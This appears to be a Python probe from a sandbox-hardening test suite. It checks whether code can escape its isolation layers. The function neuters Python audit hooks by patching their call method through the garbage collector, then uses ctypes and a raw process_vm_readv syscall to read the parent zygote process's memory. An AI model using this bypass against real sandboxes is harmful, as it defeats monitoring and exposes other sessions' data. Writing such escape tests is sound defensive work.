# Reads the zygote's memory with process_vm_readv: a fork has the same address layout as its
# parent, so the address of an object it inherited (the `os` module) names the same object in
# the zygote, whose heap is where earlier calls' data passed. Escaped: bytes were read.
def process_vm_zygote(**_):
    import os
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    parent = os.getppid()
    if parent <= 1:
        return {"escaped": False, "detail": f"no parent to aim at (getppid() = {parent})"}

    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buf = ctypes.create_string_buffer(64)
    local, remote = Iovec(ctypes.cast(buf, ctypes.c_void_p), 64), Iovec(id(os), 64)
    res, err = sys_call(310, parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)  # process_vm_readv
    if res < 0:
        return {"escaped": False, "detail": f"process_vm_readv({parent}) refused: {os.strerror(err)}"}
    same = buf.raw[:res] == ctypes.string_at(id(os), res)
    return {"escaped": res > 0, "detail": f"read {res} bytes of the zygote {parent}'s memory (same as ours: {same})"}


# caps: reading a process that holds a capability the caller lacks needs CAP_SYS_PTRACE.
LAYERS = ("seccomp", "landlock", "pid_namespace", "caps")
NEEDS_ROOT = False
NEEDS = ("ptrace",)  # as an ordinary user, where Yama allows tracing a process that is no descendant
